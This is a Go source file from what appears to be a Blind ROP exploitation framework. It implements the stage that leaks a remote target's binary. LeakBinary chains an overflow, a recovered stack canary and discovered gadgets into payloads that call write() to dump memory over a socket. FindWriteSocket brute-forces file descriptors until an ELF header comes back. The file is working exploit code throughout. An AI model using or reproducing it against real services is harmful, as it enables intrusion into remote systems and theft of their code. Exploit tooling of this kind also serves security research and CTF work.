package session

import (
	"fmt"

	"github.com/voidspace-sec/brop/internal/oracle"
	"github.com/voidspace-sec/brop/internal/payload"
)

// elfMagic is the four leading bytes of every ELF image, used to
// recognize a successful binary leak without knowing the target's
// layout ahead of time.
var elfMagic = [4]byte{0x7F, 'E', 'L', 'F'}

// LeakBinary calls write(sock, dumpAddr, dumpLength) through the
// recovered gadget chain, using the leaked return address (masked to
// its containing page) as the address to dump from. It tries every
// gadget GetGadgets found as the write-like call target, since nothing
// upstream positively identifies one the way GetBROPGadgets and
// GetStrcmpItems do, and returns the first reply that actually carries
// bytes back (C13).
func (s *Session) LeakBinary(sock uint64, dumpLength int) ([]byte, error) {
	overflow, canary, padding, ok := s.baseParts()
	if !ok {
		return nil, fmt.Errorf("session: prerequisite stages incomplete")
	}
	brop, ok := s.GetBROPGadgets()
	if !ok || len(brop) == 0 {
		return nil, fmt.Errorf("session: no BROP gadget available")
	}
	strcmp, ok := s.GetStrcmpItems()
	if !ok || len(strcmp) == 0 {
		return nil, fmt.Errorf("session: no strcmp-like gadget available")
	}
	candidates, ok := s.GetGadgets()
	if !ok || len(candidates) == 0 {
		return nil, fmt.Errorf("session: no gadgets to try as write")
	}
	retAddr, ok := s.GetPossibleReturnAddress()
	if !ok {
		return nil, fmt.Errorf("session: no leaked return address")
	}
	dumpAddr := retAddr.And(0xffff_ffff_ffff_0000)

	for _, writeGadget := range candidates {
		p := payload.CraftWritePayload(overflow, canary, padding, writeGadget, strcmp[0], brop[0], sock, dumpLength, dumpAddr)
		rc, data, probeOK := s.Probe(p)
		if !probeOK {
			continue
		}
		if rc == oracle.NoCrash && len(data) > 0 {
			return data, nil
		}
	}
	return nil, fmt.Errorf("session: no candidate write gadget produced a reply")
}

// FindWriteSocket brute-forces LeakBinary over a range of file
// descriptors, looking for the one connected back to this client: its
// leak should start with an ELF header, since dumpAddr points at the
// target's own loaded image.
func (s *Session) FindWriteSocket(candidates []uint64, dumpLength int) (uint64, []byte, error) {
	for _, fd := range candidates {
		data, err := s.LeakBinary(fd, dumpLength)
		if err != nil {
			continue
		}
		if len(data) >= 4 && data[0] == elfMagic[0] && data[1] == elfMagic[1] && data[2] == elfMagic[2] && data[3] == elfMagic[3] {
			return fd, data, nil
		}
	}
	return 0, nil, fmt.Errorf("session: no socket fd in range produced an ELF-looking leak")
}
